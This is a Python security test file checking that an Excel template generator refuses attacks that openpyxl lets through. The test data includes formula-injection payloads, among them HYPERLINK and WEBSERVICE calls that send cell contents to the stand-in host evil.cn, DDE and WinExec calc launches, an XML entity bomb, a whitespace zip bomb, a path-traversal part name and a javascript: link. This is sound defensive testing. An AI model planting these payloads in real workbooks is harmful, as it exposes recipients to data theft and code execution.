"""What openpyxl, with which most programs fill workbooks, lets through: each attack succeeds there, and is refused or harmless here."""

import io
import zipfile

import openpyxl
import pytest

from generator.diagnostics import Invalid, InvalidTemplate
from generator.excel.template import ExcelTemplate
from tests.security.attacks import one_cell, parts_of

SHEET = "xl/worksheets/sheet1.xml"
TEMPLATE = one_cell("{{ v }}")


def changed(old: bytes, new: bytes, part: str = SHEET) -> bytes:
    def change(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return parts_of(TEMPLATE, {part: change})


def theirs(content: bytes) -> openpyxl.Workbook:
    """The workbook as openpyxl opens it, and saves it again."""
    stream = io.BytesIO()
    openpyxl.load_workbook(io.BytesIO(content)).save(stream)
    return openpyxl.load_workbook(stream)


def codes(content: bytes) -> set[str]:
    with pytest.raises(Invalid) as caught:
        ExcelTemplate(content).render({"v": 1})
    return {finding.code for finding in caught.value.diagnostics}


@pytest.mark.parametrize(
    "data",
    [
        '=HYPERLINK("http://evil.cn/?"&A2,"合计")',
        "=cmd|'/c calc'!A0",
        '=WEBSERVICE("http://evil.cn")',
        "=1+1",
        "=A1:A9",
    ],
)
def it_takes_no_formula_from_data(data):
    book = openpyxl.load_workbook(io.BytesIO(TEMPLATE))
    book["Sheet"]["A1"] = data
    stream = io.BytesIO()
    book.save(stream)
    assert openpyxl.load_workbook(stream)["Sheet"]["A1"].data_type == "f"  # it is computed where it is opened

    mine = ExcelTemplate(TEMPLATE).render({"v": data})
    cell = openpyxl.load_workbook(io.BytesIO(mine))["Sheet"]["A1"]
    assert cell.data_type != "f" or b"<f>" not in parts_of(mine)[SHEET]
    assert b"<f" not in parts_of(mine)[SHEET]
    assert cell.value == data


@pytest.mark.parametrize(
    "formula",
    ['WEBSERVICE("http://evil.cn/?"&amp;A1)', "cmd|'/c calc'!A0", 'CALL("kernel32","WinExec","JCJ","calc",0)'],
)
def it_carries_no_formula_that_acts(formula):
    content = changed(b"</row></sheetData>", f'<c r="B1"><f>{formula}</f></c></row></sheetData>'.encode())
    assert str(theirs(content)["Sheet"]["B1"].value).startswith("=")
    assert codes(content) == {"active-content"}


def it_expands_no_entity():
    cell = f'<c r="B1" t="inlineStr"><is><t>{"&b;" * 10}</t></is></c></row></sheetData>'.encode()
    content = changed(b"</row></sheetData>", cell)
    kinds = b'<!DOCTYPE x [<!ENTITY a "0123456789"><!ENTITY b "' + b"&a;" * 10 + b'">]>'
    content = parts_of(content, {SHEET: lambda data: kinds + data[data.index(b"<worksheet") :]})
    assert len(theirs(content)["Sheet"]["B1"].value) == 1000
    assert codes(content) == {"xml-doctype"}


def it_inflates_no_bomb():
    content = changed(b"</row></sheetData>", b"</row>" + b" " * 16_000_000 + b"</sheetData>")
    assert len(content) < 30_000
    assert theirs(content)["Sheet"]["A1"].value == "{{ v }}"
    assert codes(content) == {"package-too-large"}


def it_opens_no_package_with_names_that_lead_elsewhere():
    content = parts_of(TEMPLATE, {"../../evil.xml": lambda _: b"<a/>"})
    assert theirs(content)["Sheet"]["A1"].value == "{{ v }}"
    assert codes(content) == {"package-bad-name"}


def it_opens_no_package_whose_parts_are_not_what_they_say():
    content = bytearray(parts_of(TEMPLATE, {"customXml/item1.xml": lambda _: b"<a>12345</a>" * 9}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo("customXml/item1.xml")
    at = content.rindex(b"customXml/item1.xml") - 46 + 16  # its checksum in the directory
    content[at : at + 4] = (info.CRC ^ 1).to_bytes(4, "little")
    assert theirs(bytes(content))["Sheet"]["A1"].value == "{{ v }}"
    assert codes(bytes(content)) == {"package-damaged"}


def it_fetches_no_picture_and_opens_no_link_that_the_template_names():
    link = b'<hyperlinks><hyperlink ref="A1" r:id="rId9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></hyperlinks>'
    content = changed(b"</sheetData>", b"</sheetData>" + link)
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="javascript:alert(1)" TargetMode="External"/></Relationships>'
    )
    content = parts_of(content, {"xl/worksheets/_rels/sheet1.xml.rels": lambda _: relations})
    assert theirs(content)["Sheet"]["A1"].hyperlink.target == "javascript:alert(1)"
    with pytest.raises(InvalidTemplate) as caught:
        ExcelTemplate(content)
    assert {finding.code for finding in caught.value.diagnostics} == {"active-content"}


def it_prints_no_number_that_is_none():
    book = openpyxl.load_workbook(io.BytesIO(TEMPLATE))
    book["Sheet"]["A1"] = float("inf")
    stream = io.BytesIO()
    book.save(stream)
    assert openpyxl.load_workbook(stream)["Sheet"]["A1"].value is None  # the figure is gone without a word
    with pytest.raises(InvalidTemplate) as caught:
        ExcelTemplate(TEMPLATE).render({"v": float("inf")})
    assert {finding.code for finding in caught.value.diagnostics} == {"excel-not-finite"}
